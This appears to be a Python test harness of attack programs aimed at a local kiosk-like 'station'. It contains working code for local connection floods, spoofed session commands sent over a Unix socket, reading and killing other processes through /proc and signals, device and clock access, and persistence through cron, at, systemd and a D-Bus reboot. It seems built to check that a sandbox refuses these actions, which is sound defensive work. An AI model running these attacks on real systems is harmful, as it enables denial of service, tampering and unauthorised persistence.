"""Programs that would get at the machine or at the station's own processes: `python -c THIS NAME MARK WORDS…`.

The floods print `up`, or `refused` where nobody takes their first connection, and go on. The others print what they
got, or `refused`, and stay.
"""

import os
import select
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

KEPT: list[object] = []


def stay(got: list[str]) -> None:
    """Tell what was got; then until it is ended."""
    print("got " + " ".join(got) if got else "refused", flush=True)
    while True:
        time.sleep(60)


def flood(port: int, mark: str) -> None:
    """Eight processes with hundreds of connections each: some silent, some that speak slowly, some that lie."""
    answer = "refused"
    with suppress(OSError), socket.create_connection(("127.0.0.1", port), 5):
        answer = "up"
    for number in range(8):
        if os.fork() == 0:
            os.execve(sys.executable, [sys.executable, "-c", FLOODING, str(port), str(number), mark], {})
    time.sleep(1.0)
    print(answer, flush=True)
    while True:
        time.sleep(60)


FLOODING = """
import socket, sys, time, contextlib
port, kind, held = int(sys.argv[1]), int(sys.argv[2]), []
posted = b"POST /enter HTTP/1.1\\r\\nContent-Length: 9999999\\r\\n\\r\\n"
lines = [b"", b"GET / HTTP/1.1\\r\\nX-", b"\\x16\\x03\\x01", posted]
while True:
    try:
        line = socket.create_connection(("127.0.0.1", port), 0.5)
        line.setblocking(False)
        line.send(lines[kind % 4])
        held.append(line)
    except OSError:
        time.sleep(0.01)
        for one in held[:50]: one.close()
        del held[:50]
    with contextlib.suppress(OSError):
        held[-1].send(b"a") if held else None
"""


def floods_the_menu(mark: str, port: str) -> None:
    """Thousands of connections to the menu of the station."""
    flood(int(port), mark)


def floods_the_panel(mark: str, port: str) -> None:
    """Thousands of connections to the panel of the site."""
    flood(int(port), mark)


def speaks_to_the_service(mark: str, path: str) -> None:
    """Over the station's own socket: another hour, and a session that is opened by nobody."""
    got = []
    for address in (path, f"\0{path}"):
        with socket.socket(socket.AF_UNIX) as line, suppress(OSError):
            line.settimeout(2)
            line.connect(address)
            line.sendall(b'{"verb":"extend","minutes":60}\n{"verb":"opened","session":"x"}\n{"verb":"covered"}\n')
            line.recv(100)
            got.append(address)
    stay(got)


def ends_and_reads_others(mark: str, *pids: str) -> None:
    """Signals, priorities, memory, environment, open files and tracing of processes that are given by number."""
    got = []
    for pid in pids:
        for name in ("environ", "mem", "maps", "fd/0", "cwd", "stack"):
            with suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as file:
                file.read(1)
                got.append(f"{name} of {pid}")
        for name in ("oom_score_adj", "autogroup", "clear_refs", "comm"):
            with suppress(OSError):
                Path(f"/proc/{pid}/{name}").write_text("19")
                got.append(f"{name} of {pid}")
        for number in (signal.SIGSTOP, signal.SIGKILL):
            with suppress(OSError):
                os.kill(int(pid), number)
                got.append(f"{number.name} to {pid}")
    stay(got)


def reaches_for_the_machine(mark: str, *devices: str) -> None:
    """The clock, consoles, keyboards, system request keys, and whatever turns a machine off."""
    got = []
    with suppress(OSError):
        time.clock_settime(time.CLOCK_REALTIME, time.time())
        got.append("the clock")
    for device in devices:
        settings = device.startswith(("/proc/", "/sys/"))  # which everybody may read
        for how in (os.O_WRONLY,) if settings else (os.O_RDONLY, os.O_WRONLY):
            with suppress(OSError):
                os.close(os.open(device, how | os.O_NONBLOCK | os.O_NOCTTY))
                got.append(f"{device} {'read' if how == os.O_RDONLY else 'written'}")
    stay(got)


def asks_to_be_run_later(mark: str) -> None:
    """By cron, by at, by a user's systemd, and by files where those would look."""
    got = []
    line = f"{sys.executable} -c 'import time; time.sleep(600)' {mark}"
    asked = {
        "cron": (["crontab", "-"], f"* * * * * {line}\n"),
        "at": (["at", "now"], f"{line}\n"),
        "systemd": (["systemd-run", "--user", *line.split(" ", 1)], ""),
        "bus": (["busctl", "call", "org.freedesktop.login1", "/org/freedesktop/login1",
                 "org.freedesktop.login1.Manager", "Reboot", "b", "false"], ""),
    }  # fmt: skip
    for name, (command, text) in asked.items():
        with suppress(OSError, subprocess.TimeoutExpired):
            done = subprocess.run(command, input=text.encode(), capture_output=True, timeout=5, check=False)
            if done.returncode == 0:
                got.append(name)
    for folder in ("/var/spool/cron/crontabs", "/var/spool/cron/atjobs", "/etc/cron.d", "/var/lib/systemd/linger"):
        with suppress(OSError):
            Path(folder, mark).write_text(line)
            got.append(folder)
    stay(got)


ATTACKS: dict[str, Callable[..., None]] = {
    made.__name__: made
    for made in (
        floods_the_menu, floods_the_panel, speaks_to_the_service, ends_and_reads_others, reaches_for_the_machine,
        asks_to_be_run_later,
    )
}  # fmt: skip


if __name__ == "__main__":
    ATTACKS[sys.argv[1]](*sys.argv[2:])
    select.select([], [], [])
